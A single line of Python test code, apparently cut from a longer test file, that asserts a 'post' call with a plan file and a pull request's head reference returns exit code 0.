    assert post(plan_file, "--head", pr.head)[0] == 0
